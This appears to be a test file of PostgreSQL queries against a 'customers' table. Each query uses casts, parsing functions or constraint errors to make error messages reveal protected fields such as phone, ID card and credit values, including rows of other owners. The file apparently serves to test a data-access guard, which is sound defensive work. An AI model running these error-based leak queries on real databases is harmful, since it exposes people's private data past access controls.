-- a cast that names the phone
SELECT phone::smallint FROM customers

-- a cast that names the phone, in a condition
SELECT id FROM customers WHERE phone::smallint = 1

-- a cast that names the email
SELECT email::int FROM customers

-- a cast that names the email, in a condition
SELECT id FROM customers WHERE email::int = 1

-- a cast that names the id_card
SELECT id_card::smallint FROM customers

-- a cast that names the id_card, in a condition
SELECT id FROM customers WHERE id_card::smallint = 1

-- a cast that names the credit
SELECT (credit::text || 'x')::int FROM customers

-- a cast that names the credit, in a condition
SELECT id FROM customers WHERE (credit::text || 'x')::int = 1

-- a cast that names the birthday
SELECT birthday::text::int FROM customers

-- a cast that names the birthday, in a condition
SELECT id FROM customers WHERE birthday::text::int = 1

-- a cast that names the profile
SELECT (profile->>'phone')::smallint FROM customers

-- a cast that names the profile, in a condition
SELECT id FROM customers WHERE (profile->>'phone')::smallint = 1

-- a cast that names the note
SELECT note::int FROM customers

-- a cast that names the note, in a condition
SELECT id FROM customers WHERE note::int = 1

-- a cast that names the name
SELECT name::int FROM customers

-- a cast that names the name, in a condition
SELECT id FROM customers WHERE name::int = 1

-- a cast that names the row
SELECT customers::text::int FROM customers

-- a cast that names the row, in a condition
SELECT id FROM customers WHERE customers::text::int = 1

-- a cast that names the row
SELECT to_jsonb(customers)::text::int FROM customers

-- a cast that names the row, in a condition
SELECT id FROM customers WHERE to_jsonb(customers)::text::int = 1

-- hidden names in the error of to_date
SELECT id FROM customers WHERE (to_date(name, 'YYYY'))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of to_timestamp
SELECT id FROM customers WHERE (to_timestamp(name, 'HH'))::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of to_number
SELECT id FROM customers WHERE (to_number(name, '9'))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of date
SELECT id FROM customers WHERE (name::date)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of uuid
SELECT id FROM customers WHERE (name::uuid)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of inet
SELECT id FROM customers WHERE (name::inet)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of an enum
SELECT id FROM customers WHERE (name::region)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of json
SELECT id FROM customers WHERE (name::json)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of xml
SELECT id FROM customers WHERE (name::xml)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of an array
SELECT id FROM customers WHERE (('{' || name)::int[])::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of regclass
SELECT id FROM customers WHERE (name::regclass)::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of regproc
SELECT id FROM customers WHERE (name::regproc)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of regtype
SELECT id FROM customers WHERE (name::regtype)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of interval
SELECT id FROM customers WHERE (name::interval)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of point
SELECT id FROM customers WHERE (name::point)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of numeric
SELECT id FROM customers WHERE (name::numeric)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of boolean
SELECT id FROM customers WHERE (name::boolean)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of bytea
SELECT id FROM customers WHERE (name::bytea::text::int)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of tsquery
SELECT id FROM customers WHERE (name::tsquery)::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of jsonpath
SELECT id FROM customers WHERE (name::jsonpath)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of pg_lsn
SELECT id FROM customers WHERE (name::pg_lsn)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of bit
SELECT id FROM customers WHERE (name::bit(3))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of cidr
SELECT id FROM customers WHERE (name::cidr)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of macaddr
SELECT id FROM customers WHERE (name::macaddr)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of a range
SELECT id FROM customers WHERE (name::int4range)::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of decode
SELECT id FROM customers WHERE (decode(name, 'hex'))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of a setting’s name
SELECT id FROM customers WHERE (current_setting(name))::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of a pattern
SELECT id FROM customers WHERE ('x' ~ (name || '('))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of make_date
SELECT id FROM customers WHERE (make_date(id::int, 13, 1)::text)::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of chr
SELECT id FROM customers WHERE (chr(-id::int))::text IS NOT NULL AND owner_id <> 7

-- tries: hidden names in the error of memory
SELECT id FROM customers WHERE (repeat(name, 2000000000))::text IS NOT NULL AND owner_id <> 7

-- hidden names in the error of lpad
SELECT id FROM customers WHERE (lpad(name, 1, '')::int::text)::text IS NOT NULL AND owner_id <> 7

-- a CHECK’s DETAIL shows the row
UPDATE customers SET name = NULL WHERE id = 17

-- a NOT NULL’s DETAIL shows another’s row
UPDATE customers SET name = NULL WHERE id = 18

-- tries: a division in what is set
UPDATE customers SET note = (1/(CASE WHEN id_card LIKE '0%' THEN 0 ELSE 1 END))::text

-- a foreign key’s DETAIL
DELETE FROM customers WHERE owner_id = 3

-- a unique key’s DETAIL in an update of others
UPDATE customers SET id = 1 WHERE owner_id = 3
